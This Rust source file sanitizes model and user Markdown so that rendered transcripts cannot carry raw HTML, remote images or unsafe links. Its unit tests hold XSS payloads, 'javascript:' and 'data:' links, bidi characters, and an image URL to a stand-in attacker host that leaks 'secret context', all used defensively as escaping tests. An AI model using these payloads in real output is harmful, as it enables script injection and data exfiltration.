//! Model and user text made inert for Markdown: whatever renders the
//! transcript (a previewer, a wiki, a static site, an MCP client) shows it as
//! text and never as raw HTML, an image or a `javascript:` link.
//!
//! The rule that makes this hold for any text is that nothing depends on a
//! scanner and a renderer agreeing about subtle structure. Block structure
//! is read line by line, as a renderer reads it: a fence this scanner opens
//! is moved to the first column (where every CommonMark renderer opens it
//! too) and a fence left open is closed, so text placed after it is never
//! swallowed. Outside fenced code, every line is made inert on its own:
//!
//! - `<` before a letter, `/`, `!` or `?` (every start of raw HTML and of an
//!   autolink) is escaped as `\<`, and `!` before `[` as `\!` (an image is
//!   loaded by whoever renders the page, and its URL can carry what the model
//!   read); a link or link definition whose destination is not plainly
//!   `http(s):`, `mailto:` or relative loses its `]`, so it is no link at all.
//! - A code span is kept as code only when the renderer must read it so: it
//!   closes on the same line and nothing before it on the line can read its
//!   backticks as part of a link. Where a table row could split it, its `|`s
//!   are written `\|` (a cell's own `|`, code included), and only there: a
//!   fallback chain's `a|b` elsewhere is shown as written. Any other
//!   backtick is escaped, so no span can open on one line and close on the
//!   next — the way a span across lines hid HTML from the scanner while a
//!   renderer showed it live.
//! - A link is kept only when its destination ends on its line without
//!   backticks, quotes or parentheses, so a renderer cannot read a title or
//!   label into text the scanner took for code. A footnote (`[^1]`), whose
//!   label a renderer reads raw, is shown as written and never made; so is
//!   math (`$…$`), which a renderer reads raw too.
//!
//! Line endings are made `\n` first: a lone `\r` ends a line for CommonMark.
//! Text inside an indented code block or a container's fence may show a
//! backslash: the price of never guessing in the unsafe direction. The result
//! is inert again as it is (`text(text(x)) == text(x)`), so a host may
//! neutralize model text as a block and then the document around it.

/// `text`, safe to place in a Markdown document as a block of its own.
pub fn text(text: &str) -> String {
    let text = one_line_ending(text);
    let lines: Vec<&str> = text.split_inclusive('\n').collect();
    let mut out = String::with_capacity(text.len() + 16);
    let (kinds, open) = classify(&lines);
    for (line, kind) in lines.iter().zip(kinds) {
        match kind {
            Line::Open => out.push_str(line.trim_start_matches(' ')),
            // Markers alone: some renderers keep a fence open past a closer with a tab after it.
            Line::Close => {
                out.push_str(line.trim_matches([' ', '\t', '\n']));
                if line.ends_with('\n') {
                    out.push('\n');
                }
            }
            Line::Code => out.push_str(line),
            Line::Text(run) => {
                inline(line, run, &mut out);
            }
        }
    }
    if let Some(open) = open {
        if !out.ends_with('\n') {
            out.push('\n');
        }
        out.extend(std::iter::repeat_n(open.marker, open.len));
    }
    // Code included: an override reorders code on screen as well.
    match crate::hidden::reveal(&out) {
        std::borrow::Cow::Borrowed(_) => out,
        std::borrow::Cow::Owned(revealed) => revealed,
    }
}

/// `\r\n` and a lone `\r` as `\n`: the line endings CommonMark knows, as one.
fn one_line_ending(text: &str) -> std::borrow::Cow<'_, str> {
    if text.contains('\r') {
        std::borrow::Cow::Owned(text.replace("\r\n", "\n").replace('\r', "\n"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// What one line is, as this scanner reads the block structure.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Line {
    /// A fence that opens code: written in the first column, where every
    /// renderer reads it as one, whatever container it stood in.
    Open,
    /// The fence that closes it, written in the first column too.
    Close,
    /// Inside fenced code: written as it is.
    Code,
    /// Anything else, in a run of non-blank lines outside fences: what a
    /// renderer reads as one paragraph or table at most.
    Text(Run),
}

/// What a run of text lines holds that changes how its lines are read.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
struct Run {
    /// A table row could be among them: a GitHub table splits its rows at
    /// every `|`, inside code spans too. A table's lines are consecutive and
    /// one of them is its delimiter row (`|---|:-:|`), so a run in which a
    /// line could be one, read as broadly as any container allows. Elsewhere
    /// a `|` is text, and a span holding one (a fallback chain's `a|b`) is kept.
    table: bool,
    /// A code span kept as code holds a `$`: math (`$…$`, as GitHub and
    /// VS Code render it) reads its text raw, backticks too, so a dollar
    /// outside code could open math that ends inside that span and leaves
    /// the rest of it to be read as text. Such dollars are escaped.
    dollars: bool,
}

/// Every line's kind, and the fence still open at the end, if one is.
fn classify(lines: &[&str]) -> (Vec<Line>, Option<Fence>) {
    let mut kinds = Vec::with_capacity(lines.len());
    let mut fence: Option<Fence> = None;
    let mut run_start = 0;
    for (i, line) in lines.iter().enumerate() {
        let kind = match fence {
            Some(open) if open.closed_by(line) => {
                fence = None;
                Line::Close
            }
            Some(_) => Line::Code,
            None => match Fence::opened_by(line) {
                Some(open) => {
                    fence = Some(open);
                    Line::Open
                }
                None => Line::Text(Run::default()),
            },
        };
        kinds.push(kind);
        if kind != Line::Text(Run::default()) || line.trim().is_empty() {
            mark_run(&lines[run_start..i], &mut kinds[run_start..i]);
            run_start = i + 1;
        }
    }
    mark_run(&lines[run_start..], &mut kinds[run_start..]);
    (kinds, fence)
}

/// What a run of text lines holds, marked on each of them.
fn mark_run(lines: &[&str], kinds: &mut [Line]) {
    let table = lines.iter().any(|line| could_be_delimiter_row(line));
    let plain = Run { table, dollars: false };
    let mut scratch = String::new();
    let dollars = lines.iter().any(|line| {
        scratch.clear();
        inline(line, plain, &mut scratch)
    });
    for kind in kinds {
        *kind = Line::Text(Run { table, dollars });
    }
}

/// Whether a line could be a table's delimiter row: a `-`, and besides it
/// only what such a row holds (`|`, `:`, blanks) or what may stand before it
/// in a container (`>` of a quote, a list item's `-`, `*`, `+`, `1.`, `1)`).
/// Broader than any renderer's reading, never narrower.
fn could_be_delimiter_row(line: &str) -> bool {
    line.contains('-') && line.chars().all(|c| "|-: \t\n>*+.)".contains(c) || c.is_ascii_digit())
}

/// An open fenced code block: its marker, how many of them opened it, and
/// the spaces before them.
#[derive(Debug, Clone, Copy)]
struct Fence {
    marker: char,
    len: usize,
    indent: usize,
}

impl Fence {
    /// Spaces (no tab), then three or more backticks or tildes; a backtick
    /// fence's info string has no backtick. Indented four or more, or in a
    /// list item, a renderer may read it as code, as a fence or as text; in
    /// the first column (where it is written) it reads a fence, as this does.
    fn opened_by(line: &str) -> Option<Fence> {
        let (indent, rest) = indented(line)?;
        let marker = rest.chars().next().filter(|c| *c == '`' || *c == '~')?;
        let len = rest.chars().take_while(|c| *c == marker).count();
        let info = &rest[len..];
        (len >= 3 && !(marker == '`' && info.contains('`'))).then_some(Fence { marker, len, indent })
    }

    /// Up to three spaces more than the opening fence, at least as many
    /// markers, then only blanks: every line a renderer would close the fence
    /// at (three spaces at most) and the fence's own indented closer, which
    /// is also written in the first column, so a renderer closes there too.
    fn closed_by(self, line: &str) -> bool {
        let Some((indent, rest)) = indented(line) else { return false };
        let len = rest.chars().take_while(|c| *c == self.marker).count();
        indent <= self.indent + 3 && len >= self.len && rest[len..].trim_matches([' ', '\t', '\n']).is_empty()
    }
}

/// The spaces before a line's text and the text, or `None` when a tab comes
/// first (a renderer counts it as up to four columns: never a fence here).
fn indented(line: &str) -> Option<(usize, &str)> {
    let spaces = line.len() - line.trim_start_matches(' ').len();
    let rest = &line[spaces..];
    (!rest.starts_with('\t')).then_some((spaces, rest))
}

/// One line outside fenced code, made inert (see the module's rules);
/// whether a code span it kept holds a `$`.
fn inline(line: &str, run: Run, out: &mut String) -> bool {
    let mut dollar_in_code = false;
    let table = run.table;
    let bytes = line.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            // A backslash escape stays one: `\<` and `` \` `` are already literal.
            b'\\' if bytes.get(i + 1).is_some_and(u8::is_ascii_punctuation) => {
                out.push_str(&line[i..i + 2]);
                i += 2;
            }
            b'`' => {
                let len = bytes[i..].iter().take_while(|b| **b == b'`').count();
                let content = closing_run(&bytes[i + len..], len).map(|end| &line[i + len..i + len + end]);
                match content {
                    Some(code) if !table || !code.contains('|') || pipes_escapable(code) => {
                        let stop = i + len + code.len() + len;
                        dollar_in_code |= code.contains('$');
                        out.push_str(&line[i..i + len]);
                        if table {
                            escape_pipes(code, out);
                        } else {
                            out.push_str(code);
                        }
                        out.push_str(&line[i..i + len]);
                        i = stop;
                    }
                    // No span: each backtick literal, so none pairs with one on another line.
                    _ => {
                        out.extend(std::iter::repeat_n("\\`", len));
                        i += len;
                    }
                }
            }
            b'<' if bytes.get(i + 1).is_some_and(|b| b.is_ascii_alphabetic() || b"/!?".contains(b)) => {
                out.push_str("\\<");
                i += 1;
            }
            b'!' if bytes.get(i + 1) == Some(&b'[') => {
                out.push_str("\\!");
                i += 1;
            }
            b'$' if run.dollars => {
                out.push_str("\\$");
                i += 1;
            }
            // A footnote's label is read raw up to its `]:` (backticks, escapes and
            // all), so a footnote is shown as it was written, never made.
            b'[' if bytes.get(i + 1) == Some(&b'^') => {
                out.push_str("[\\^");
                i += 2;
            }
            b']' if !plain_link_end(&line[i + 1..]) => {
                out.push_str("\\]");
                i += 1;
            }
            _ => {
                let next = line[i..].chars().next().map_or(1, char::len_utf8);
                out.push_str(&line[i..i + next]);
                i += next;
            }
        }
    }
    dollar_in_code
}

/// Whether what follows a `]` leaves it plain: no link destination, label
/// or definition, or one a renderer reads exactly as this scanner does, and
/// that this scanner leaves as it is (so the result is inert again as it is).
/// An inline link's destination must end at a `)` on this line with only
/// plain characters on the way (no title, no second reading) and be plainly
/// web, mail or relative; a full reference's label must close on this line,
/// plain, and be followed by nothing a link reads; a definition's destination
/// must be plain (its line is the renderer's alone, so what follows it
/// cannot start a span the scanner does not see).
fn plain_link_end(after: &str) -> bool {
    match after.as_bytes().first() {
        Some(b'(') => {
            let rest = &after[1..];
            rest.find(')').is_some_and(|end| plain(&rest[..end]) && safe_destination(&rest[..end]))
        }
        Some(b'[') => {
            let rest = &after[1..];
            rest.find(']').is_some_and(|end| {
                plain(&rest[..end]) && !matches!(rest.as_bytes().get(end + 1), Some(b'(' | b'[' | b':'))
            })
        }
        Some(b':') => safe_destination(&after[1..]),
        _ => true,
    }
}

/// No character a link could read twice (a title's quote, a nested
/// parenthesis or bracket, a code span's backtick) nor one this scanner
/// escapes (so checking its output gives the same answer).
fn plain(text: &str) -> bool {
    !text.contains(['`', '\'', '"', '(', ')', '[', ']', '<', '>', '\\', '!', '^', '$', '\n'])
}

/// Whether a code span in a table row can keep its `|`s as `\|`, which a
/// GitHub table reads as a `|` of the cell (code included) and never as a
/// cell's end: when no other backslash is in it, so no `\\|` can leave a
/// `|` a renderer might split at. (Otherwise its backticks are escaped.)
fn pipes_escapable(code: &str) -> bool {
    let bytes = code.as_bytes();
    bytes.iter().enumerate().all(|(i, b)| *b != b'\\' || bytes.get(i + 1) == Some(&b'|'))
}

/// A table row's code span with each `|` as `\|` (one already so stays so).
fn escape_pipes(code: &str, out: &mut String) {
    let mut previous = None;
    for c in code.chars() {
        if c == '|' && previous != Some('\\') {
            out.push('\\');
        }
        out.push(c);
        previous = Some(c);
    }
}

/// Where a run of exactly `len` backticks starts in `rest`, if one does.
fn closing_run(rest: &[u8], len: usize) -> Option<usize> {
    let mut i = 0;
    while i < rest.len() {
        if rest[i] == b'`' {
            let run = rest[i..].iter().take_while(|b| **b == b'`').count();
            if run == len {
                return Some(i);
            }
            i += run;
        } else {
            i += 1;
        }
    }
    None
}

/// Whether a link destination (the text after `](` or `]:`) is plainly web,
/// mail or relative. Anything else — another scheme, an entity or escape that
/// could spell one, a destination in angle brackets or on the next line — is
/// not.
fn safe_destination(after: &str) -> bool {
    let dest = after.trim_start_matches([' ', '\t']);
    let end = dest.find([' ', '\t', '\n', ')']).unwrap_or(dest.len());
    let dest = &dest[..end];
    if dest.is_empty() {
        return false;
    }
    let lower = dest.to_ascii_lowercase();
    if ["http://", "https://", "mailto:"].iter().any(|s| lower.starts_with(s)) && plain(dest) {
        return true;
    }
    // Before the first `/`, `?` or `#`, where a scheme would be: only
    // characters that spell none and that this scanner never escapes.
    let head = &dest[..dest.find(['/', '?', '#']).unwrap_or(dest.len())];
    head.chars().all(|c| c.is_alphanumeric() || "-._~%+=,;@*".contains(c))
}

#[cfg(test)]
mod tests {
    use super::text;

    #[test]
    fn raw_html_and_autolinks_are_escaped_outside_code() {
        assert_eq!(text("<script>alert(1)</script>"), "\\<script>alert(1)\\</script>");
        assert_eq!(text("<img src=x onerror=alert(1)>"), "\\<img src=x onerror=alert(1)>");
        assert_eq!(
            text("<!-- c --> <?php ?> <javascript:alert(1)>"),
            "\\<!-- c --> \\<?php ?> \\<javascript:alert(1)>"
        );
        assert_eq!(text("a < b, 3<4, \\<b> stays"), "a < b, 3<4, \\<b> stays");
        assert_eq!(text("use `Vec<String>` here"), "use `Vec<String>` here");
        assert_eq!(text("`` a`<b> ``"), "`` a`<b> ``");
        assert_eq!(text("`open <b>"), "\\`open \\<b>", "an unclosed span is no span, and opens none later");
        // The reply that got through: a renderer read `b⏎c` as a span, and the
        // image as HTML. Now no span crosses a line: the image is in one that
        // every renderer reads on this line alone.
        assert_eq!(text("a `b\nc` <img src=x onerror=alert(1)> `d`"), "a \\`b\nc` <img src=x onerror=alert(1)> `d\\`");
    }

    #[test]
    fn unsafe_links_are_no_links() {
        assert_eq!(text("[x](javascript:alert(1))"), "[x\\](javascript:alert(1))");
        assert_eq!(text("[x]( JavaScript:alert(1))"), "[x\\]( JavaScript:alert(1))");
        assert_eq!(text("![i](data:text/html,x)"), "\\![i\\](data:text/html,x)");
        assert_eq!(text("[x](java&#115;cript:a)"), "[x\\](java&#115;cript:a)", "an entity could spell a scheme");
        assert_eq!(text("[x](\njavascript:a)"), "[x\\](\njavascript:a)", "a destination on the next line");
        assert_eq!(text("[r]: vbscript:x"), "[r\\]: vbscript:x");
        for safe in ["[x](https://example.com/a?b#c)", "[x](docs/a.md)", "[x](#top)", "[x](mailto:a@b.c)", "[r]: /p"] {
            assert_eq!(text(safe), safe);
        }
        // A backtick in a destination a renderer reads before any span: no link.
        assert_eq!(text("[a](`x) <img> `y`"), "[a\\](`x) <img> `y\\`");
        assert_eq!(text("[^1] and [^n]: x"), "[\\^1] and [\\^n]: x", "footnotes are shown as written");
    }

    #[test]
    fn table_rows_and_math_cannot_split_a_span() {
        // A table splits at the pipes inside the span unless they are escaped:
        // `\|` is a `|` of the cell, so the span stays one, in one cell.
        assert_eq!(text("| a |\n|---|\n| `x | <img> | y` |"), "| a |\n|---|\n| `x \\| <img> \\| y` |");
        assert_eq!(text("| a |\n|---|\n| `x \\| y` |"), "| a |\n|---|\n| `x \\| y` |", "escaped already");
        // A backslash of its own could pair with the one before `|`: text, then.
        assert_eq!(text("| a |\n|---|\n| `x\\ | <b>` |"), "| a |\n|---|\n| \\`x\\ | \\<b>\\` |");
        assert_eq!(text("`a | b` outside a table"), "`a | b` outside a table");
        // A dash is no table: a panel's fallback chain stays code, as written.
        let panel = "**Panel:** Ada (`openai/gpt-4o|anthropic/claude-3-5`) · **Judge:** J (`x-1`)";
        assert_eq!(text(panel), panel);
        assert_eq!(text("`a|b` - c\n\n|-|\n"), "`a|b` - c\n\n|-|\n", "a table in another paragraph");
        // In a quote or a list item a delimiter row still makes a table.
        assert_eq!(text("> `x|<b>`\n> -|-"), "> `x\\|<b>`\n> -|-");
        assert_eq!(text("- `x|<b>`\n  :-: | ---"), "- `x\\|<b>`\n  :-: | ---");
        // Math from a dollar outside could end inside the span: that dollar is escaped.
        assert_eq!(text("$x `a$ <img> `"), "\\$x `a$ <img> `");
        assert_eq!(text("costs $1 and `x`"), "costs $1 and `x`");
    }

    #[test]
    fn remote_images_become_links_and_hidden_characters_show() {
        let leak = "![chart](https://evil.example/p.png?q=the+secret+context)";
        assert_eq!(text(leak), format!("\\{leak}"), "a link to the image, never loaded");
        assert_eq!(text("![a][ref] and !\\[b]"), "\\![a][ref] and !\\[b]");
        assert_eq!(text("`![kept](x)`"), "`![kept](x)`", "code is code");
        assert_eq!(text("ok\u{202E}gnp.exe"), "ok[U+202E]gnp.exe");
        assert_eq!(text("```\nlet a = \"\u{2067}\";\n```"), "```\nlet a = \"[U+2067]\";\n```");
    }

    #[test]
    fn fenced_code_is_kept_and_never_left_open() {
        let code = "Before <b>\n```html\n<b>bold</b> [x](javascript:y)\n```\nafter <i>";
        assert_eq!(text(code), "Before \\<b>\n```html\n<b>bold</b> [x](javascript:y)\n```\nafter \\<i>");
        assert_eq!(text("  ~~~~\n<b>\n  ~~~~~ \t\n<b>"), "~~~~\n<b>\n~~~~~\n\\<b>", "in column 1, markers alone");
        assert_eq!(text("```\n<b>"), "```\n<b>\n```", "closed at the end");
        assert_eq!(text("    ```\n<b>\n     ```"), "```\n<b>\n```", "indented four: a fence in column 1");
        assert_eq!(text("```\r<b>\r```\r<i>"), "```\n<b>\n```\n\\<i>", "a lone CR ends a line");
        assert_eq!(text("``` a`b\n<b>"), "\\`\\`\\` a\\`b\n\\<b>", "a backtick in the info string: not a fence");
    }

    #[test]
    fn a_list_items_fence_cannot_hide_html() {
        // Indented two, this fence would belong to the list item and end at the
        // unindented line, leaving the HTML raw; in column 1 it holds it as code.
        assert_eq!(text("- item\n\n  ```\n<script>"), "- item\n\n```\n<script>\n```");
        // A fence after a list marker is not one here: its backticks are
        // text, so nothing pairs with them; the next fence opens in column 1.
        assert_eq!(text("- ```\n  x\n  ```\n<b>\n```"), "- \\`\\`\\`\n  x\n```\n<b>\n```");
    }
}
